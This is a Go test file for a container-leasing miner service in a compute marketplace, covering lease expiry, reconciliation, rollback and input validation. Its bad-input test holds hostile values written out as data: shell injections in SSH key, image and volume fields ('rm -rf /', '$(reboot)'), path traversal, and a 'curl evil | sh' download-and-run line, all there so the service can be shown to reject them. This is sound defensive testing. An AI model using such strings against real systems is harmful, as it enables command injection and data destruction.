package miner

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"log/slog"
	"net/http"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/nicompute/nicompute/internal/axon"
	"github.com/nicompute/nicompute/internal/market"
	"github.com/nicompute/nicompute/internal/protocol"
	"github.com/nicompute/nicompute/internal/sqlite"
)

// TestExpiry runs the lease loop in a synctest bubble: each lease ends
// exactly when its time is up (the timer, not the hourly sweep), its
// container is removed, and an expiry that meets a down runtime is retried
// until it succeeds.
func TestExpiry(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		db, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "leases.db"), sqlite.LeaseSchema)
		if err != nil {
			t.Fatal(err)
		}
		defer db.Close()
		store := sqlite.NewLeaseStore(db)
		rt := newFakeRuntime()
		cfg := Config{SSHPorts: PortRange{First: 21000, Last: 21100}, SSHHostIP: "127.0.0.1", SweepInterval: time.Hour,
			LeaseUnit: time.Hour, DefaultMemory: 1 << 30, DefaultDisk: 1 << 30, CreateTimeout: time.Minute, Now: time.Now, Failpoint: func(string) {}}
		capacity := market.Capacity{CPUs: 8, MemoryBytes: 16 << 30, DiskBytes: 100 << 30}
		deps := Deps{Runtime: rt, Store: store, Specs: staticSpecs{}, Guard: &fakeGuard{}}
		m := newLeaseManager(cfg, deps, capacity, nil, nil, slog.New(slog.DiscardHandler))
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		done := make(chan struct{})
		go func() { defer close(done); m.run(ctx) }()

		alloc := func(d time.Duration) market.Lease {
			t.Helper()
			_, key := sshPub(t)
			keys, _ := rt.ParseSSHKeys(key)
			l, err := m.allocate(ctx, allocRequest{Owner: market.LeaseOwner{Hotkey: "v", KeyFingerprint: newLeaseID()},
				Requirement: market.Requirement{}, Duration: d, Image: "busybox:latest", Keys: keys})
			if err != nil {
				t.Fatal(err)
			}
			return l
		}
		state := func(id string) market.LeaseState {
			l, err := store.Lease(context.Background(), id)
			if err != nil {
				t.Fatal(err)
			}
			return l.State
		}
		short, long := alloc(10*time.Minute), alloc(3*time.Hour)
		time.Sleep(10*time.Minute - time.Second)
		synctest.Wait()
		if state(short.ID) != market.LeaseActive || rt.container(short.ID) == nil {
			t.Fatal("lease ended before its time")
		}
		time.Sleep(2 * time.Second)
		synctest.Wait()
		if l, _ := store.Lease(context.Background(), short.ID); l.State != market.LeaseEnded || l.EndReason != market.EndExpired || rt.container(short.ID) != nil {
			t.Fatalf("short lease one second after expiry: %+v, container %v", l, rt.container(short.ID))
		}
		if state(long.ID) != market.LeaseActive {
			t.Fatal("long lease ended early")
		}

		rt.down.Store(true)
		time.Sleep(3 * time.Hour)
		synctest.Wait()
		if state(long.ID) != market.LeaseActive {
			t.Fatal("lease ended although its container could not be removed")
		}
		rt.down.Store(false)
		time.Sleep(runtimeRetry + time.Second)
		synctest.Wait()
		if state(long.ID) != market.LeaseEnded || rt.count() != 0 {
			t.Fatalf("expiry not retried after the runtime returned: %s, %d containers", state(long.ID), rt.count())
		}
		cancel()
		<-done
	})
}

// TestReconcileOnStart prepares every inconsistency a crash or an operator
// can leave between the store and the runtime, starts the miner, and checks
// each was settled; in dry-run mode nothing changes.
func TestReconcileOnStart(t *testing.T) {
	for _, dry := range []bool{false, true} {
		t.Run(map[bool]string{false: "apply", true: "dry-run"}[dry], func(t *testing.T) {
			w := newWorld(t)
			ctx := context.Background()
			db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "leases.db"), sqlite.LeaseSchema)
			if err != nil {
				t.Fatal(err)
			}
			defer db.Close()
			tm := &testMiner{rt: newFakeRuntime(), guard: &fakeGuard{}, store: sqlite.NewLeaseStore(db), chain: &cutChain{Chain: w.client}, w: w}
			now := time.Now().UTC()
			port := 22000
			lease := func(id string, st market.LeaseState, container string) {
				port++
				l := market.Lease{ID: id, Owner: market.LeaseOwner{Hotkey: "v", KeyFingerprint: id}, State: market.LeaseCreating,
					Resources: market.Resources{CPUs: 1, MemoryBytes: 1 << 30}, SSHPort: port, Image: "busybox:latest",
					CreatedAt: now, ExpiresAt: now.Add(time.Hour)}
				if err := tm.store.InsertLease(ctx, l); err != nil {
					t.Fatal(err)
				}
				switch st {
				case market.LeaseActive:
					tm.store.ActivateLease(ctx, id)
				case market.LeaseEnded:
					tm.store.EndLease(ctx, id, market.EndDeallocated, now)
				}
				if container != "" {
					tm.rt.containers[id] = &fakeContainer{Container: Container{ID: "c-" + id, LeaseID: id, State: container, Created: now}}
				}
			}
			lease("creatingWithContainer", market.LeaseCreating, ContainerCreated)
			lease("creatingNoContainer", market.LeaseCreating, "")
			lease("healthy", market.LeaseActive, ContainerRunning)
			lease("paused", market.LeaseActive, ContainerPaused)
			lease("missing", market.LeaseActive, "")
			lease("stopped", market.LeaseActive, ContainerExited)
			lease("endedWithContainer", market.LeaseEnded, ContainerRunning)
			tm.rt.containers["unknownOld"] = &fakeContainer{Container: Container{ID: "c-old", LeaseID: "unknownOld", State: ContainerRunning, Created: now.Add(-time.Hour)}}
			tm.rt.containers["unknownYoung"] = &fakeContainer{Container: Container{ID: "c-young", LeaseID: "unknownYoung", State: ContainerRunning, Created: now}}
			tm.start(t, func(c *Config, _ *Deps) { c.ReconcileDryRun = dry })

			wantState := map[string]market.LeaseState{
				"creatingWithContainer": market.LeaseEnded, "creatingNoContainer": market.LeaseEnded, "healthy": market.LeaseActive,
				"paused": market.LeaseActive, "missing": market.LeaseEnded, "stopped": market.LeaseActive, "endedWithContainer": market.LeaseEnded,
			}
			wantReason := map[string]string{"creatingWithContainer": market.EndInterrupted, "creatingNoContainer": market.EndInterrupted,
				"missing": market.EndContainerMissing, "endedWithContainer": market.EndDeallocated}
			wantContainer := map[string]string{"healthy": ContainerRunning, "paused": ContainerPaused, "stopped": ContainerRunning, "unknownYoung": ContainerRunning}
			if dry {
				wantState = map[string]market.LeaseState{"creatingWithContainer": market.LeaseCreating, "creatingNoContainer": market.LeaseCreating,
					"healthy": market.LeaseActive, "paused": market.LeaseActive, "missing": market.LeaseActive, "stopped": market.LeaseActive, "endedWithContainer": market.LeaseEnded}
				wantReason = map[string]string{"endedWithContainer": market.EndDeallocated}
				wantContainer = map[string]string{"creatingWithContainer": ContainerCreated, "healthy": ContainerRunning, "paused": ContainerPaused,
					"stopped": ContainerExited, "endedWithContainer": ContainerRunning, "unknownOld": ContainerRunning, "unknownYoung": ContainerRunning}
			}
			for id, st := range wantState {
				l, err := tm.store.Lease(ctx, id)
				if err != nil || l.State != st || l.EndReason != wantReason[id] {
					t.Errorf("lease %s: %s (%s), %v; want %s (%s)", id, l.State, l.EndReason, err, st, wantReason[id])
				}
			}
			for _, id := range []string{"creatingWithContainer", "creatingNoContainer", "healthy", "paused", "missing", "stopped", "endedWithContainer", "unknownOld", "unknownYoung"} {
				got := ""
				if c := tm.rt.container(id); c != nil {
					got = c.State
				}
				if got != wantContainer[id] {
					t.Errorf("container of %s: %q, want %q", id, got, wantContainer[id])
				}
			}
		})
	}
}

// TestCreateFailures checks the rollback paths: an engine refusal ends the
// lease and leaves no container; a port found busy at start is retried on
// the next port; a renter that stopped waiting gets no lease.
func TestCreateFailures(t *testing.T) {
	w := newWorld(t)
	tm := startTestMiner(t, w, nil)
	ctx := context.Background()

	tm.rt.createHook = func(ContainerSpec) error {
		return market.Errorf(market.EINVALID, "lease x: refused by the docker engine as invalid")
	}
	out, st := tm.call(t, nil, allocReq(newRenter(t), "", market.Requirement{}))
	if st != http.StatusBadRequest || !strings.Contains(out.Error, "refused") {
		t.Fatalf("engine refusal: %d %+v", st, out)
	}
	tm.rt.createHook = nil
	if tm.rt.count() != 0 || len(tm.live(t)) != 0 {
		t.Fatalf("refusal left %d containers, leases %s", tm.rt.count(), describe(tm.live(t)))
	}

	tm.rt.startHook = func(lease string) error {
		if c := tm.rt.container(lease); c != nil && c.SSHPort == 20000 {
			return market.Errorf(market.ECONFLICT, "ssh port 20000 is already in use")
		}
		return nil
	}
	out, st = tm.call(t, nil, allocReq(newRenter(t), "", market.Requirement{}))
	if st != 200 || out.Port != 20001 {
		t.Fatalf("busy port: %d %+v, want success on 20001", st, out)
	}
	if tm.rt.count() != 1 || len(tm.live(t)) != 1 {
		t.Fatalf("after port retry: %d containers, leases %s", tm.rt.count(), describe(tm.live(t)))
	}
	tm.rt.startHook = nil

	tm.rt.createHook = func(ContainerSpec) error { time.Sleep(700 * time.Millisecond); return nil }
	var resp protocol.Allocate
	_, err := tm.d.Call(ctx, tm.target(), protocol.AllocateName, allocReq(newRenter(t), "", market.Requirement{}), &resp, 300*time.Millisecond)
	if err == nil {
		t.Fatal("call that timed out succeeded")
	}
	deadline := time.Now().Add(5 * time.Second)
	for tm.rt.count() != 1 || len(tm.live(t)) != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("abandoned allocation left %d containers, leases %s", tm.rt.count(), describe(tm.live(t)))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestBadInput sends malformed, hostile and impossible requests: each gets
// its status and a reason in output.error, and nothing is created or
// changed.
func TestBadInput(t *testing.T) {
	w := newWorld(t)
	tm := startTestMiner(t, w, nil)
	r := newRenter(t)
	_, key := sshPub(t)
	weak := rsaPEM(t, 1024)
	e1, e2 := rsaExponentPEM(t, 1), rsaExponentPEM(t, 65536)
	big := strings.Repeat("A", protocol.MaxBodyBytes)
	mod := func(f func(*protocol.Allocate)) *protocol.Allocate {
		a := allocReq(r, key, market.Requirement{})
		f(a)
		return a
	}
	for _, tc := range []struct {
		name   string
		req    any
		status int
		want   string
	}{
		{"timeline is a string", map[string]any{"timeline": "1", "checking": false}, 400, "timeline"},
		{"fractional cpu", map[string]any{"timeline": 1, "checking": false, "device_requirement": map[string]any{"cpu": map[string]any{"count": 1.5}}}, 400, "malformed"},
		{"unknown action", mod(func(a *protocol.Allocate) { a.Timeline, a.DockerChange, a.DockerAction.Action = 0, true, "rm -rf /" }), 400, "unknown docker action"},
		{"action missing", mod(func(a *protocol.Allocate) { a.Timeline, a.DockerChange = 0, true }), 400, "action"},
		{"negative cpus", mod(func(a *protocol.Allocate) { a.DeviceRequirement.CPU.Count = -4 }), 400, "cpu count"},
		{"huge ram", mod(func(a *protocol.Allocate) { a.DeviceRequirement.RAM.Capacity = 1 << 52 }), 400, "ram"},
		{"99 gpus", mod(func(a *protocol.Allocate) { a.DeviceRequirement.GPU = &protocol.GPURequest{Count: 99} }), 400, "gpu count"},
		{"huge timeline", mod(func(a *protocol.Allocate) { a.Timeline = 100000 }), 400, "timeline"},
		{"3 gpus", mod(func(a *protocol.Allocate) { a.DeviceRequirement.GPU = &protocol.GPURequest{Count: 3} }), 409, "not enough free gpus"},
		{"9 cpus", mod(func(a *protocol.Allocate) { a.DeviceRequirement.CPU.Count = 9 }), 409, "cpus"},
		{"32 GiB", mod(func(a *protocol.Allocate) { a.DeviceRequirement.RAM.Capacity = 32 << 30 }), 409, "memory"},
		{"gpu type absent", mod(func(a *protocol.Allocate) { a.DeviceRequirement.GPU = &protocol.GPURequest{Count: 1, Type: "A100"} }), 409, "A100"},
		{"garbage ssh key", mod(func(a *protocol.Allocate) { a.DockerRequirement.SSHKey = "ssh-rsa AAAA" }), 400, "ssh key"},
		{"ssh key injection", mod(func(a *protocol.Allocate) { a.DockerRequirement.SSHKey = key + "' && rm -rf / #" }), 400, "ssh key"},
		{"ssh key newline injection", mod(func(a *protocol.Allocate) { a.DockerRequirement.SSHKey = key + "\nRUN curl evil | sh" }), 400, "ssh key"},
		{"ssh key options", mod(func(a *protocol.Allocate) { a.DockerRequirement.SSHKey = `command="sh" ` + key }), 400, "options"},
		{"no public key", mod(func(a *protocol.Allocate) { a.PublicKey = "" }), 400, "public_key"},
		{"public key garbage", mod(func(a *protocol.Allocate) { a.PublicKey = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----" }), 400, "public_key"},
		{"public key 1024 bits", mod(func(a *protocol.Allocate) { a.PublicKey = weak }), 400, "bits"},
		{"public key exponent 1", mod(func(a *protocol.Allocate) { a.PublicKey = e1 }), 400, "exponent"},
		{"public key even exponent", mod(func(a *protocol.Allocate) { a.PublicKey = e2 }), 400, "exponent"},
		{"image injection", mod(func(a *protocol.Allocate) { a.DockerRequirement.BaseImage = "busybox; rm -rf /" }), 400, "image"},
		{"image not offered", mod(func(a *protocol.Allocate) { a.DockerRequirement.BaseImage = "evil/miner:latest" }), 400, "not offered"},
		{"volume traversal", mod(func(a *protocol.Allocate) { a.DockerRequirement.VolumePath = "/data/../../etc" }), 400, "volume"},
		{"volume on proc", mod(func(a *protocol.Allocate) { a.DockerRequirement.VolumePath = "/proc/self" }), 400, "volume"},
		{"volume injection", mod(func(a *protocol.Allocate) { a.DockerRequirement.VolumePath = "/data$(reboot)" }), 400, "volume"},
		{"dockerfile", mod(func(a *protocol.Allocate) { a.DockerRequirement.Dockerfile = "FROM ubuntu\nRUN curl evil | sh" }), 400, "dockerfile"},
		{"oversized", mod(func(a *protocol.Allocate) { a.DockerRequirement.Dockerfile = big }), 413, ""},
		{"deallocate nothing", deallocReq(r), 404, "no lease"},
		{"status nothing", statusReq(r), 404, "no lease"},
		{"action nothing", actionReq(r, "restart", ""), 404, "no lease"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var resp struct{ Output protocol.Output } // lenient: the echoed request may not decode
			_, err := tm.d.Call(context.Background(), tm.target(), protocol.AllocateName, tc.req, &resp, 5*time.Second)
			if tc.status == http.StatusRequestEntityTooLarge {
				// Refused by the transport, before the handler: Bittensor's code.
				if err == nil || !strings.Contains(err.Error(), "status "+itoa(tc.status)) {
					t.Fatalf("error %v, want status %d", err, tc.status)
				}
			} else {
				// Refused by the handler: HTTP 200, as SN27's miner answers, with
				// the reason and its kind in the output.
				if err != nil {
					t.Fatalf("error %v, want HTTP 200 with status false", err)
				}
				o := resp.Output
				if o.Status || protocol.RefusalStatus(o.Code) != tc.status || !strings.Contains(strings.ToLower(o.Error), strings.ToLower(tc.want)) {
					t.Fatalf("output %+v, want a refusal of status %d with an error containing %q", o, tc.status, tc.want)
				}
			}
			if tm.rt.creates.Load() != 0 || len(tm.live(t)) != 0 {
				t.Fatalf("bad input created %d containers, leases %s", tm.rt.creates.Load(), describe(tm.live(t)))
			}
		})
	}
	// An offered image and a real volume path are accepted.
	a := mod(func(a *protocol.Allocate) {
		a.DockerRequirement.BaseImage, a.DockerRequirement.VolumePath = "alpine:3.20", "/data"
	})
	if out, st := tm.call(t, nil, a); st != 200 || tm.rt.container(out.LeaseID).spec.Image != "alpine:3.20" || tm.rt.container(out.LeaseID).spec.VolumePath != "/data" {
		t.Fatalf("offered image: %d %+v", st, out)
	}
}

// rsaPEM returns the SPKI PEM of a fresh RSA key of bits bits.
func rsaPEM(tb testing.TB, bits int) string {
	tb.Helper()
	k, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		tb.Fatal(err)
	}
	der, err := x509.MarshalPKIXPublicKey(&k.PublicKey)
	if err != nil {
		tb.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
}

// rsaExponentPEM returns the SPKI PEM of a 2048-bit modulus with public
// exponent e.
func rsaExponentPEM(tb testing.TB, e int) string {
	tb.Helper()
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		tb.Fatal(err)
	}
	der, err := x509.MarshalPKIXPublicKey(&rsa.PublicKey{N: k.N, E: e})
	if err != nil {
		tb.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestLateAllocationRolledBack delays an allocation past the point where
// its renter can still be answered — before activation, after it, and
// after it with the deadline not yet passed but too close to answer. Each
// time the renter gets no credentials (408, or 503 when the miner gives up
// first) and the lease is rolled back: ended as create_failed, its
// container removed, nothing left active.
func TestLateAllocationRolledBack(t *testing.T) {
	w := newWorld(t)
	var step atomic.Pointer[string]
	var delay atomic.Int64
	tm := startTestMiner(t, w, func(c *Config, _ *Deps) {
		c.Failpoint = func(name string) {
			if s := step.Load(); s != nil && *s == name {
				time.Sleep(time.Duration(delay.Load()))
			}
		}
	})
	var leases sync.Map // ids of the leases whose container was created
	tm.rt.createHook = func(s ContainerSpec) error {
		leases.Store(s.LeaseID, true)
		return nil
	}
	for _, tc := range []struct {
		name, step string
		delay      time.Duration
		status     []int
	}{
		{"deadline passed before activation", "started", 1500 * time.Millisecond, []int{http.StatusRequestTimeout}},
		{"deadline passed during activation", "activated", 1500 * time.Millisecond, []int{http.StatusRequestTimeout}},
		{"too little time left after activation", "activated", 900 * time.Millisecond, []int{http.StatusRequestTimeout, http.StatusServiceUnavailable}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			leases.Clear()
			step.Store(&tc.step)
			delay.Store(int64(tc.delay))
			defer step.Store(nil)
			_, key := sshPub(t)
			var resp protocol.Allocate
			_, err := protocol.CallAllocate(context.Background(), tm.d, tm.target(),
				allocReq(newRenter(t), key, market.Requirement{CPUs: 1}), &resp, time.Second)
			var ae *axon.Error
			if !errors.As(err, &ae) || !slices.Contains(tc.status, ae.Status) || resp.Output.Info != "" {
				t.Fatalf("late allocation answered %v (credentials %q), want status %v", err, resp.Output.Info, tc.status)
			}
			var id string
			leases.Range(func(k, _ any) bool { id = k.(string); return false })
			if id == "" {
				t.Fatal("no container was created")
			}
			deadline := time.Now().Add(5 * time.Second)
			for {
				l, err := tm.store.Lease(context.Background(), id)
				if err == nil && l.State == market.LeaseEnded && tm.rt.container(id) == nil {
					if l.EndReason != market.EndCreateFailed {
						t.Errorf("lease ended as %q, want %q", l.EndReason, market.EndCreateFailed)
					}
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("lease %s after the renter gave up: %+v, %v; container left: %v; live %s",
						id, l, err, tm.rt.container(id) != nil, describe(tm.live(t)))
				}
				time.Sleep(20 * time.Millisecond)
			}
			if live := tm.live(t); len(live) != 0 {
				t.Fatalf("live leases after a late allocation: %s", describe(live))
			}
		})
	}
	tm.rt.createHook = nil
	if out, st := tm.call(t, nil, allocReq(newRenter(t), "", market.Requirement{})); st != 200 || out.Info == "" {
		t.Fatalf("allocation after late ones: %d %+v", st, out)
	}
}
